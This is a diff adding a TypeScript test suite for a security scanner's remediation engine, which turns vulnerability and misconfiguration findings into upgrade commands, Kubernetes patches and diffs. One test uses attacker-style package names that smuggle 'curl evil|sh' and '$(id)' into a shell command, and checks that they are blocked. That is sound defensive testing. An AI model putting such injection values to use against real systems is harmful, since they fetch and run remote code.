@@ -1,0 +1,204 @@
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { parse } from "yaml";
+import { fixUnitOf } from "@/lib/engine/fix-units";
+import { describeFix } from "@/lib/engine/fix-units/describe";
+import type { FixMember } from "@/lib/engine/fix-units/member";
+import type { FixUnitFacts } from "@/lib/engine/fix-units/unit";
+import fields from "@/packs/fixes/workload-fields.json";
+
+const image = { kind: "image" as const, key: "registry.example/shop/api" };
+const workload = { kind: "workload" as const, key: "prod/shop/Deployment/payments-api" };
+let next = 0;
+const member = (facts: FixUnitFacts, over: Partial<FixMember> = {}): FixMember => ({
+  id: `finding-${String(next++).padStart(4, "0")}`,
+  facts,
+  severity: "high",
+  label: "CVE-2024-1",
+  installedVersion: null,
+  fixedVersions: [],
+  advice: null,
+  line: null,
+  ...over,
+});
+const vulnerable = (
+  type: string,
+  name: string,
+  installed: string,
+  fixed: string[],
+  over: Partial<FixMember> = {},
+  manifest: string | null = null,
+) =>
+  member(
+    { kind: "vulnerability", asset: image, package: { type, namespace: null, name }, manifest },
+    { installedVersion: installed, fixedVersions: fixed, ...over },
+  );
+const failed = (
+  checkId: string,
+  over: Partial<FixMember> = {},
+  asset: { kind: "workload" | "repository"; key: string } = workload,
+) =>
+  member(
+    { kind: "misconfiguration", asset, checkId, checkTitle: null, resource: asset.key },
+    { label: checkId, ...over },
+  );
+const fix = (...members: FixMember[]) => describeFix(fixUnitOf(members[0]!.facts), members);
+
+describe("system packages", () => {
+  const many = () => [
+    vulnerable("deb", "zlib1g", "1.2-1", ["1.2-2"], { severity: "low" }),
+    vulnerable("deb", "openssl", "3.0.1-1", ["3.0.1-3"], { severity: "critical" }),
+    vulnerable("deb", "openssl", "3.0.1-1", ["3.0.1-2"]),
+    vulnerable("deb", "perl", "5.36-1", [], { label: "CVE-2023-9" }),
+  ];
+
+  test("are one rebuild whose title names the worst package", () => {
+    const described = fix(...many());
+    expect(described.title).toBe("Upgrade openssl and 1 other package in shop/api");
+    expect(described.text).toContain("openssl 3.0.1-1 to 3.0.1-3");
+    expect(described.commands).toEqual([
+      "RUN apt-get update && apt-get install -y --only-upgrade openssl zlib1g && rm -rf /var/lib/apt/lists/*",
+    ]);
+  });
+
+  test("say what the rebuild leaves", () => {
+    expect(fix(...many())).toMatchObject({
+      closes: 3,
+      leaves: 1,
+      leavesText: "No fixed version is stated for CVE-2023-9.",
+    });
+  });
+
+  test("without any fix are not called available", () => {
+    const described = fix(vulnerable("apk", "busybox", "1.36.0-r0", []));
+    expect(described).toMatchObject({ available: false, commands: [], closes: 0, leaves: 1 });
+    expect(described.title).toBe("No fix yet for busybox in shop/api");
+  });
+
+  test("a package named by an attacker never reaches the shell", () => {
+    const described = fix(vulnerable("deb", "x; curl evil|sh", "1", ["2"]), vulnerable("deb", "$(id)", "1", ["2"]));
+    expect(described.commands).toEqual([]);
+  });
+});
+
+describe("a language package", () => {
+  test("goes to the lowest version that closes all, by the command of its ecosystem", () => {
+    const members = [
+      vulnerable("npm", "lodash", "4.17.4", ["4.17.5"], {}, "web/package-lock.json"),
+      vulnerable("npm", "lodash", "4.17.4", ["4.17.21"], {}, "web/package-lock.json"),
+    ];
+    expect(fix(...members)).toMatchObject({
+      title: "Upgrade lodash to 4.17.21 in web/package-lock.json",
+      commands: ["npm install lodash@4.17.21"],
+      closes: 2,
+      leaves: 0,
+      locus: "web/package-lock.json",
+    });
+  });
+
+  test("says when the upgrade is a new major version and when versions cannot be compared", () => {
+    expect(fix(vulnerable("npm", "x", "1.9.0", ["2.0.0"])).text).toContain("new major version");
+    expect(fix(vulnerable("bitnami", "x", "a", ["b-1", "b-2"])).text).toContain("latest of the fixed versions stated");
+  });
+
+  test("is a diff where one line of the manifest says it", () => {
+    const described = fix(vulnerable("pypi", "django", "3.2.1", ["3.2.25"], { line: 7 }, "api/requirements.txt"));
+    expect(described.diff).toBe(
+      "--- a/api/requirements.txt\n+++ b/api/requirements.txt\n@@ -7 +7 @@\n-django==3.2.1\n+django==3.2.25\n",
+    );
+  });
+
+  test("Go's standard library is upgraded with the toolchain and by no command", () => {
+    expect(fix(vulnerable("golang", "stdlib", "1.21.0", ["1.21.5"])).commands).toEqual([]);
+  });
+});
+
+describe("a workload's field", () => {
+  test("names the worst of what its checks say and shows where the change goes", () => {
+    const described = fix(failed("container-runs-as-root", { severity: "medium" }), failed("container-root-uid"));
+    expect(described.title).toBe("payments-api runs as root");
+    expect(described.diff).toContain(
+      "+            securityContext:\n+              runAsNonRoot: true\n+              runAsUser: 10001",
+    );
+    expect(described.diff).toContain(" kind: Deployment\n metadata:\n   name: payments-api");
+    expect(described.commands[0]).toContain(
+      'kubectl -n shop patch deployment payments-api --patch \'{"spec":{"template"',
+    );
+    expect(described).toMatchObject({ closes: 2, leaves: 0 });
+    expect(described.verify).toContain("jsonpath='{.spec.template.spec.containers[*].securityContext.runAsUser}'");
+  });
+
+  test.each([
+    ["Pod", "{.spec.hostPID}"],
+    ["DaemonSet", "{.spec.template.spec.hostPID}"],
+  ])("of a %s is found at %s", (kind, path) => {
+    const asset = { kind: "workload" as const, key: `prod/shop/${kind}/agent` };
+    expect(fix(failed("host-pid-namespace", {}, asset)).verify).toContain(path);
+  });
+
+  test("has no command where something must be removed", () => {
+    const described = fix(failed("container-socket-mounted"));
+    expect(described).toMatchObject({ commands: [], diff: null });
+    expect(described.text).toContain("Remove volumes.hostPath from the pod template of the Deployment payments-api");
+  });
+
+  // The added lines are what people copy: with their context they must be the YAML that they claim to be.
+  test.each(Object.entries(fields))("%s: the patched manifest parses and holds exactly the change", (_name, field) => {
+    for (const kind of ["Deployment", "Pod", "CronJob"]) {
+      const asset = { kind: "workload" as const, key: `prod/shop/${kind}/x` };
+      const { diff } = fix(failed(Object.keys(field.checks)[0]!, {}, asset));
+      if (Object.keys(field.set).length === 0) {
+        expect(diff).toBeNull();
+        continue;
+      }
+      const [, , counts = "", ...lines] = diff!.trimEnd().split("\n");
+      const manifest = parse(lines.map((line) => line.slice(1)).join("\n"));
+      const template =
+        kind === "CronJob"
+          ? manifest.spec.jobTemplate.spec.template
+          : kind === "Pod"
+            ? manifest
+            : manifest.spec.template;
+      const { name: _container, ...container } = template.spec.containers?.[0] ?? {};
+      expect(field.scope === "pod" ? template.spec : container).toEqual(field.set);
+      const context = lines.filter((line) => line.startsWith(" ")).length;
+      expect(counts).toContain(`@@ -1,${context} +1,${lines.length} @@`);
+    }
+  });
+});
+
+describe("other changes", () => {
+  test("a secret is rotated before it is removed", () => {
+    const secret = member({ kind: "secret", asset: image, secretKey: "k", ruleTitle: "AWS key", path: "/app/.env" });
+    const { text } = fix(secret);
+    expect(text.indexOf("Issue a new credential")).toBeLessThan(text.indexOf("Take it out of /app/.env"));
+  });
+
+  test("code names every line", () => {
+    const asset = { kind: "repository" as const, key: "github.com/shop/api" };
+    const weak = (line: number) =>
+      member({ kind: "code", asset, rule: "bandit:B101", ruleTitle: null, path: "a.py" }, { line, advice: "Do not." });
+    expect(fix(weak(9), weak(3))).toMatchObject({ text: "Change a.py at lines 3 and 9. Do not.", locus: "a.py:3" });
+  });
+
+  test("a Dockerfile without a user gets one", () => {
+    const asset = { kind: "repository" as const, key: "Dockerfile" };
+    expect(fix(failed("dockerfile-root-user", { line: 12 }, asset)).diff).toContain(
+      "@@ -12,0 +12,1 @@\n+USER 10001:10001",
+    );
+  });
+});
+
+test("the order of members changes nothing", () => {
+  const members = [
+    vulnerable("deb", "a", "1", ["2"]),
+    vulnerable("deb", "b", "1", ["3"], { severity: "critical" }),
+    vulnerable("deb", "b", "2", ["3"]),
+    vulnerable("deb", "c", "1", []),
+  ];
+  fc.assert(
+    fc.property(fc.shuffledSubarray(members, { minLength: members.length }), (shuffled) => {
+      expect(describeFix(fixUnitOf(members[0]!.facts), shuffled)).toEqual(fix(...members));
+    }),
+  );
+});
